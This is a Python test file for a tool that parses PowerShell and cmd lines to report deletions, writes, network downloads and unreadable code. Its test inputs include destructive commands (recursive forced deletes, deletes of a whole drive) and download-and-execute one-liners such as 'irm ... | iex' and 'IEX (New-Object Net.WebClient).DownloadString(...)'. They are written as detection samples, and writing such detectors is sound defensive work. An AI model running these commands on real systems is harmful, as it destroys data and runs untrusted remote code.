"""Lines for PowerShell and cmd: what they evidently do, and what of them cannot be read."""

from __future__ import annotations

from typing import Any

import msgspec
import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from interlock.facts.programs.readers.powershell import local_path
from interlock.facts.windows_lines import read_windows


def found(kind: str, text: str) -> dict[str, Any]:
    """What was found, without what is empty; traits as a sorted list."""
    effects = {name: value for name, value in msgspec.structs.asdict(read_windows(kind, text)).items() if value}
    return {**effects, "traits": sorted(effects["traits"])} if "traits" in effects else effects


@pytest.mark.parametrize(
    ("text", "effects"),
    [
        ("Get-ChildItem src", {"reads": ["src"]}),
        ("gci -Recurse src | where { $_.Length -gt 5 } | select Name", {"reads": ["src"], "traits": ["recursive"]}),
        ("Get-Date", {}),
        ('"only a value"', {}),
        ("# nothing but a remark", {}),
        ("Remove-Item -Recurse -Force build, dist",
            {"deletes": ["build", "dist"], "traits": ["changes", "forced", "recursive"]}),
        ("ri -r -fo 'C:\\Users\\me'", {"deletes": ["/Users/me"], "traits": ["changes", "forced", "recursive"]}),
        ("Remove-Item -LiteralPath $HOME\\x", {"deletes": ["~/x"], "traits": ["changes"]}),
        ("Remove-Item x -WhatIf", {}),
        ("Set-Content -Path a.txt -Value hi", {"writes": ["a.txt"], "traits": ["changes"]}),
        ("'hi' > out.txt", {"writes": ["out.txt"]}),
        ("Get-Process > $null", {}),
        ("Copy-Item a b", {"reads": ["a"], "writes": ["b"], "traits": ["changes"]}),
        ("Move-Item a b", {"reads": ["a"], "deletes": ["a"], "writes": ["b"], "traits": ["changes"]}),
        ("if (Test-Path a) { Remove-Item a } else { New-Item a }",
            {"deletes": ["a"], "writes": ["a"], "traits": ["changes"]}),
        ("$x = Get-Content a.txt; Write-Host $x", {"reads": ["a.txt"]}),
        ("iwr https://x.example/a", {"urls": ["https://x.example/a"], "traits": ["network"]}),
        ("iwr https://x.example/a -OutFile b",
            {"urls": ["https://x.example/a"], "writes": ["b"], "traits": ["changes", "downloads", "network"]}),
        ("Stop-Computer", {"traits": ["changes", "reboots"]}),
        ("git push -f", {"shell": ["git push -f"]}),
        ("git commit -m $message", {"shell": ["git commit -m \"${value}\""]}),
        ("& 'git' status; npm test", {"shell": ["git status", "npm test"]}),
        ("rm -rf x", {"deletes": ["x"], "shell": ["rm -rf x"], "traits": ["changes"]}),
        ("Write-Host \"a $(Get-Date) b $(Remove-Item x) c\"", {"deletes": ["x"], "traits": ["changes"]}),
        ("Write-Host \"costs $5 (five)\"", {}),
        ("Get-Date # Remove-Item x", {}),
        ("Write-Host 'Remove-Item x'", {}),
        ("@'\nRemove-Item x\n'@", {}),
    ],
)  # fmt: skip
def test_what_a_powershell_line_does(text, effects):
    assert found("powershell", text) == effects


@pytest.mark.parametrize(
    ("text", "why"),
    [
        ("& $program x", "the program is not known before it runs"),
        ("iex $text", "runs a text that is not known before it runs"),
        ("$text | iex", "runs a text that is not known before it runs"),
        ("[System.IO.File]::Delete('x')", "a call that the tables do not have"),
        ("$x.Invoke()", "a call that the tables do not have"),
        (".\\deploy.ps1 -All", "runs a script"),
        ("Get-Date)", "a bracket that was never opened"),
        ('"$(Get-Date"', "a bracket that is never closed"),
        ('"' + "$()" * 5_000 + '"', "more than 300 commands in a line for PowerShell or cmd"),
        ("(" * 50 + "ls" + ")" * 50, "more than 20 levels of brackets in a program text"),
        ("ls;" * 400, "more than 300 commands in a line for PowerShell or cmd"),
        ("x" * 60_000, "more than 50,000 characters in a program text"),
    ],
)
def test_what_of_powershell_cannot_be_read(text, why):
    assert read_windows("powershell", text).opaque == why


@pytest.mark.parametrize("text", ["$x.ToString()", "'a b'.Split(' ')", "iex 'Get-Date'", "$a.Count"])
def test_calls_that_only_look_at_text_are_read(text):
    assert read_windows("powershell", text).opaque == ""


def test_a_text_that_is_run_is_read():
    assert found("powershell", "iex 'Remove-Item C:\\'") == {"deletes": ["/"], "traits": ["changes"]}


def test_what_the_network_sends_and_is_run_is_known_as_such():
    assert "executes-download" in read_windows("powershell", "irm https://x.example/i.ps1 | iex").traits
    client = "IEX (New-Object Net.WebClient).DownloadString('https://x.example')"
    assert "executes-download" in read_windows("powershell", client).traits
    assert "executes-download" not in read_windows("powershell", "irm https://x.example/data | ConvertFrom-Json").traits


@pytest.mark.parametrize(
    ("text", "effects"),
    [
        ("dir", {}),
        ("del /s /q C:\\data", {"deletes": ["/data"], "traits": ["changes"]}),
        ("rd /s /q \"D:\\old things\"", {"deletes": ["/d/old things"], "traits": ["changes"]}),
        ("if not exist src rd /s /q build", {"deletes": ["build"], "traits": ["changes"]}),
        ("for %i in (*.log) do del x\\%i", {"deletes": ["x/\0"], "traits": ["changes"]}),
        ("echo hi > a.txt & type a.txt", {"writes": ["a.txt"], "reads": ["a.txt"]}),
        ("echo hi > nul 2>&1", {}),
        ("copy a b", {"reads": ["a"], "writes": ["b"], "traits": ["changes"]}),
        ("npm run build && git status", {"shell": ["npm run build", "git status"]}),
        ("rem del x", {}),
        ("d^el x", {"deletes": ["x"], "traits": ["changes"]}),
    ],
)  # fmt: skip
def test_what_a_cmd_line_does(text, effects):
    assert found("cmd", text) == effects


@pytest.mark.parametrize(
    ("written", "meant"),
    [
        ("C:\\", "/"), ("C:", "/"), ("c:\\Users\\me", "/Users/me"), ("D:\\x", "/d/x"), ("src\\a.ps1", "src/a.ps1"),
        ("$env:USERPROFILE\\x", "~/x"), ("%TEMP%\\x", "/tmp/x"), ("$env:windir", "/Windows"), ("a/b", "a/b"),
    ],
)  # fmt: skip
def test_where_a_path_of_windows_leads(written, meant):
    assert local_path(written) == meant


@given(st.sampled_from(["powershell", "cmd"]), st.text(max_size=60))
@example("powershell", "'")
@example("powershell", "@{a=1}")
@example("cmd", '"')
@example("cmd", "(((")
def test_no_text_makes_it_fail(kind, text):
    read_windows(kind, text)


@given(st.text(alphabet="abc $;|&(){}'\"`\n<>@#%^", max_size=40))
def test_a_delete_behind_any_text_is_found_or_the_text_is_opaque(text):
    """Appending a command never loosens, unless a quote or a remark takes it in."""
    said = read_windows("powershell", f"{text}\nRemove-Item C:\\x")
    inside = text.count("'") % 2 or text.count('"') % 2 or "`" in text or "#" in text or "@" in text
    assert "/x" in said.deletes or said.opaque or inside or text.count("{") + text.count("(") > 0
